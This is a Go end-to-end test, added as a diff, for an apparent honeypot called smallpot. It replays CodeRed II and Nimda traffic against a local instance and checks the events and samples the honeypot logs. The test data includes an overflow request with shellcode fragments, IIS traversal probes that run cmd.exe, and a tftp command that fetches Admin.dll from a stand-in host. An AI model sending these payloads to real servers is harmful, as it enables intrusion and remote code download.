@@ -1,0 +1,379 @@
+package main
+
+import (
+	"bufio"
+	"bytes"
+	"crypto/sha256"
+	"encoding/hex"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"io"
+	"math/rand/v2"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"sync"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/smallpot/smallpot/internal/event"
+)
+
+// buildBinary builds smallpot once per test binary.
+var (
+	buildOnce sync.Once
+	binPath   string
+	buildErr  error
+)
+
+func smallpotBinary(t *testing.T) string {
+	t.Helper()
+	buildOnce.Do(func() {
+		dir, err := os.MkdirTemp("", "smallpot-bin-")
+		if err != nil {
+			buildErr = err
+			return
+		}
+		// World-readable so a server that drops root can still be run.
+		_ = os.Chmod(dir, 0o755)
+		binPath = filepath.Join(dir, "smallpot")
+		out, err := exec.Command("go", "build", "-o", binPath, ".").CombinedOutput()
+		if err != nil {
+			buildErr = fmt.Errorf("go build: %v\n%s", err, out)
+		}
+	})
+	if buildErr != nil {
+		t.Fatal(buildErr)
+	}
+	return binPath
+}
+
+// server is a running smallpot process.
+type server struct {
+	cmd    *exec.Cmd
+	data   string
+	offset int
+	stderr *bytes.Buffer
+	table  string
+}
+
+// startServer runs `smallpot run` on 127.0.0.1 with a random port offset,
+// retrying another offset if a port is taken.
+func startServer(t *testing.T, configYAML string) *server {
+	t.Helper()
+	bin := smallpotBinary(t)
+	dir := t.TempDir()
+	cfgPath := filepath.Join(dir, "smallpot.yaml")
+	if err := os.WriteFile(cfgPath, []byte(configYAML), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	data := filepath.Join(dir, "data")
+	for try := 0; try < 5; try++ {
+		offset := 20000 + rand.IntN(30000)
+		cmd := exec.Command(bin, "run", "-config", cfgPath, "-data", data, "-bind", "127.0.0.1",
+			"-port-offset", fmt.Sprint(offset))
+		stdout, err := cmd.StdoutPipe()
+		if err != nil {
+			t.Fatal(err)
+		}
+		var stderr bytes.Buffer
+		cmd.Stderr = &stderr
+		if err := cmd.Start(); err != nil {
+			t.Fatal(err)
+		}
+		// The table ends with an empty line after the listeners.
+		lines := make(chan string)
+		go func() {
+			sc := bufio.NewScanner(stdout)
+			var b strings.Builder
+			sawHeader := false
+			for sc.Scan() {
+				b.WriteString(sc.Text() + "\n")
+				if strings.HasPrefix(sc.Text(), "SERVICE") {
+					sawHeader = true
+				} else if sawHeader && sc.Text() == "" {
+					lines <- b.String()
+					_, _ = io.Copy(io.Discard, stdout)
+					return
+				}
+			}
+			close(lines)
+		}()
+		select {
+		case table, ok := <-lines:
+			if ok {
+				s := &server{cmd: cmd, data: data, offset: offset, stderr: &stderr, table: table}
+				t.Cleanup(func() { s.stop(t) })
+				return s
+			}
+			_ = cmd.Wait()
+			if strings.Contains(stderr.String(), "address already in use") {
+				continue
+			}
+			t.Fatalf("smallpot run exited before serving:\n%s", stderr.String())
+		case <-time.After(30 * time.Second):
+			_ = cmd.Process.Kill()
+			t.Fatalf("smallpot run did not print its table within 30s:\n%s", stderr.String())
+		}
+	}
+	t.Fatal("no free port offset found")
+	return nil
+}
+
+func (s *server) stop(t *testing.T) {
+	t.Helper()
+	if s.cmd.ProcessState != nil {
+		return
+	}
+	_ = s.cmd.Process.Signal(syscall.SIGTERM)
+	done := make(chan error, 1)
+	go func() { done <- s.cmd.Wait() }()
+	select {
+	case err := <-done:
+		if err != nil {
+			t.Errorf("smallpot run did not exit cleanly on SIGTERM: %v\n%s", err, s.stderr.String())
+		}
+	case <-time.After(20 * time.Second):
+		_ = s.cmd.Process.Kill()
+		t.Errorf("smallpot run did not stop within 20s of SIGTERM\n%s", s.stderr.String())
+	}
+}
+
+func (s *server) addr(port int) string { return fmt.Sprintf("127.0.0.1:%d", port+s.offset) }
+
+// send writes raw bytes on a new connection, half-closes, and returns what
+// came back before the server closed (or 5s passed).
+func send(t *testing.T, addr string, raw []byte) []byte {
+	t.Helper()
+	c, err := net.DialTimeout("tcp", addr, 5*time.Second)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer c.Close()
+	_ = c.SetDeadline(time.Now().Add(5 * time.Second))
+	if _, err := c.Write(raw); err != nil {
+		t.Fatal(err)
+	}
+	_ = c.(*net.TCPConn).CloseWrite()
+	out, _ := io.ReadAll(c)
+	return out
+}
+
+func smallpotCLI(t *testing.T, args ...string) []byte {
+	t.Helper()
+	out, err := exec.Command(smallpotBinary(t), args...).Output()
+	if err != nil {
+		var ee *exec.ExitError
+		if errors.As(err, &ee) {
+			t.Fatalf("smallpot %s: %v\n%s", strings.Join(args, " "), err, ee.Stderr)
+		}
+		t.Fatalf("smallpot %s: %v", strings.Join(args, " "), err)
+	}
+	return out
+}
+
+func jsonLines[T any](t *testing.T, b []byte) []T {
+	t.Helper()
+	var out []T
+	for _, line := range bytes.Split(bytes.TrimSpace(b), []byte("\n")) {
+		if len(line) == 0 {
+			continue
+		}
+		var v T
+		if err := json.Unmarshal(line, &v); err != nil {
+			t.Fatalf("bad JSON line %q: %v", line, err)
+		}
+		out = append(out, v)
+	}
+	return out
+}
+
+const e2eConfig = `
+sensor: e2e
+pipeline:
+  flush_interval: 50ms
+services:
+  generic:
+    enabled: false
+  http:
+    ports: [80]
+`
+
+// codeRedII is shaped like the CodeRed II request: an over-long .ida
+// query of filler and %u-encoded shellcode, then a body carrying the
+// worm's code (here a stand-in of the same shape).
+func codeRedII() []byte {
+	body := bytes.Repeat([]byte{0x90}, 1024)
+	body = append(body, []byte("\x8b\xec\x81\xec\x18\x02\x00\x00CodeRedII")...)
+	req := "GET /default.ida?" + strings.Repeat("X", 224) +
+		"%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u9090%u8190%u00c3%u0003%u8b00%u531b%u53ff%u0078%u0000%u00=a HTTP/1.0\r\n" +
+		"Content-type: text/xml\r\nContent-length: " + fmt.Sprint(len(body)) + "\r\n\r\n"
+	return append([]byte(req), body...)
+}
+
+var nimdaProbes = []string{
+	"/scripts/root.exe?/c+dir",
+	"/MSADC/root.exe?/c+dir",
+	"/c/winnt/system32/cmd.exe?/c+dir",
+	"/d/winnt/system32/cmd.exe?/c+dir",
+	"/scripts/..%255c../winnt/system32/cmd.exe?/c+dir",
+	"/_vti_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe?/c+dir",
+	"/_mem_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe?/c+dir",
+	"/msadc/..%255c../..%255c../..%255c/..%c1%1c../..%c1%1c../..%c1%1c../winnt/system32/cmd.exe?/c+dir",
+	"/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir",
+	"/scripts/..%c0%2f../winnt/system32/cmd.exe?/c+dir",
+	"/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir",
+	"/scripts/..%c1%9c../winnt/system32/cmd.exe?/c+dir",
+	"/scripts/..%%35%63../winnt/system32/cmd.exe?/c+dir",
+	"/scripts/..%%35c../winnt/system32/cmd.exe?/c+dir",
+	"/scripts/..%25%35%63../winnt/system32/cmd.exe?/c+dir",
+	"/scripts/..%252f../winnt/system32/cmd.exe?/c+dir",
+}
+
+// nimdaTFTP is the step Nimda takes once a probe answers: fetch its
+// Admin.dll from the attacking host over TFTP.
+const nimdaTFTP = "/scripts/..%255c../winnt/system32/cmd.exe?/c+tftp%20-i%20198.51.100.7%20GET%20Admin.dll%20c:\\Admin.dll"
+
+func TestEndToEndCodeRedAndNimda(t *testing.T) {
+	if testing.Short() {
+		t.Skip("end-to-end test builds and runs the binary")
+	}
+	s := startServer(t, e2eConfig)
+	if !strings.Contains(s.table, "http") || !strings.Contains(s.table, fmt.Sprint(80+s.offset)) {
+		t.Fatalf("start-up table does not list http on port %d:\n%s", 80+s.offset, s.table)
+	}
+	addr := s.addr(80)
+	if os.Geteuid() == 0 {
+		// Started as root, it must have given root up before serving.
+		status, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", s.cmd.Process.Pid))
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, line := range strings.Split(string(status), "\n") {
+			if strings.HasPrefix(line, "Uid:") && strings.Fields(line)[2] == "0" {
+				t.Errorf("smallpot still runs as root after binding: %s", line)
+			}
+		}
+	}
+
+	cr := codeRedII()
+	send(t, addr, cr)
+
+	for _, p := range nimdaProbes {
+		out := send(t, addr, []byte("GET "+p+" HTTP/1.0\r\nHost: www\r\nConnnection: close\r\n\r\n"))
+		// CodeRed II's /d virtual root maps D:, where no winnt lives.
+		if !strings.HasPrefix(p, "/d/") && !bytes.Contains(out, []byte("Directory of")) {
+			t.Errorf("Nimda probe %s: no dir listing in the answer:\n%s", p, out)
+		}
+	}
+	out := send(t, addr, []byte("GET "+nimdaTFTP+" HTTP/1.0\r\nHost: www\r\n\r\n"))
+	if len(out) == 0 {
+		t.Errorf("Nimda tftp step: no answer")
+	}
+
+	// Stop: shutdown must flush everything to disk.
+	s.stop(t)
+
+	evs := jsonLines[event.Event](t, smallpotCLI(t, "events", "-data", s.data, "-json", "-service", "http", "-kind", "request"))
+	if len(evs) != 1+len(nimdaProbes)+1 {
+		t.Fatalf("got %d request events, want %d", len(evs), 1+len(nimdaProbes)+1)
+	}
+	sum := sha256.Sum256(cr)
+	crSHA := hex.EncodeToString(sum[:])
+	first := evs[0].Detail.(*event.Request)
+	if first.Sample != crSHA {
+		t.Errorf("CodeRed II request event: sample %q, want sha256 of the request bytes %s", first.Sample, crSHA)
+	}
+	if !strings.HasPrefix(first.URI, "/default.ida?XXXX") {
+		t.Errorf("CodeRed II request event: uri %q", first.URI)
+	}
+	for i, p := range nimdaProbes {
+		if got := evs[1+i].Detail.(*event.Request).URI; got != p {
+			t.Errorf("Nimda probe %d: uri %q, want %q", i, got, p)
+		}
+	}
+
+	// The tftp step is a command and a download intent.
+	cmds := jsonLines[event.Event](t, smallpotCLI(t, "events", "-data", s.data, "-json", "-kind", "command"))
+	foundTFTP := false
+	for _, e := range cmds {
+		if strings.Contains(e.Detail.(*event.Command).Line, "tftp -i 198.51.100.7 GET Admin.dll") {
+			foundTFTP = true
+		}
+	}
+	if !foundTFTP {
+		t.Errorf("no command event for Nimda's tftp step among %d commands", len(cmds))
+	}
+	dls := jsonLines[event.Event](t, smallpotCLI(t, "events", "-data", s.data, "-json", "-kind", "download"))
+	if len(dls) != 1 || dls[0].Detail.(*event.Download).URL != "tftp://198.51.100.7/Admin.dll" {
+		t.Errorf("download intents: %+v", dls)
+	}
+
+	// The sample store holds exactly the request bytes, named by hash.
+	type sampleRow struct {
+		SHA256 string `json:"sha256"`
+		Size   int64  `json:"size"`
+		Count  int64  `json:"count"`
+	}
+	rows := jsonLines[sampleRow](t, smallpotCLI(t, "samples", "ls", "-data", s.data, "-json"))
+	found := false
+	for _, r := range rows {
+		if r.SHA256 == crSHA {
+			found = true
+			if r.Size != int64(len(cr)) || r.Count != 1 {
+				t.Errorf("CodeRed II sample row %+v, want size %d count 1", r, len(cr))
+			}
+		}
+	}
+	if !found {
+		t.Errorf("samples ls has no row for the CodeRed II request %s: %+v", crSHA, rows)
+	}
+	onDisk, err := os.ReadFile(filepath.Join(s.data, "samples", crSHA))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !bytes.Equal(onDisk, cr) {
+		t.Errorf("sample file differs from the request bytes (%d vs %d bytes)", len(onDisk), len(cr))
+	}
+	show := string(smallpotCLI(t, "samples", "show", "-data", s.data, crSHA))
+	if !strings.Contains(show, crSHA) || !strings.Contains(show, "http") {
+		t.Errorf("samples show:\n%s", show)
+	}
+
+	// events.jsonl holds the same events as the database, line for line.
+	jl, err := os.ReadFile(filepath.Join(s.data, "events.jsonl"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	all := jsonLines[event.Event](t, jl)
+	dbAll := jsonLines[event.Event](t, smallpotCLI(t, "events", "-data", s.data, "-json"))
+	if len(all) != len(dbAll) {
+		t.Errorf("events.jsonl has %d events, the database %d", len(all), len(dbAll))
+	}
+	ids := map[string]bool{}
+	for _, e := range all {
+		ids[e.ID] = true
+	}
+	for _, e := range evs {
+		if !ids[e.ID] {
+			t.Errorf("request event %s missing from events.jsonl", e.ID)
+		}
+	}
+	// Every connection has its connect and close.
+	var connects, closes int
+	for _, e := range all {
+		switch e.Kind {
+		case event.KindConnect:
+			connects++
+		case event.KindClose:
+			closes++
+		}
+	}
+	if connects != 2+len(nimdaProbes) || closes != connects {
+		t.Errorf("connect/close events: %d/%d, want %d each", connects, closes, 2+len(nimdaProbes))
+	}
+}
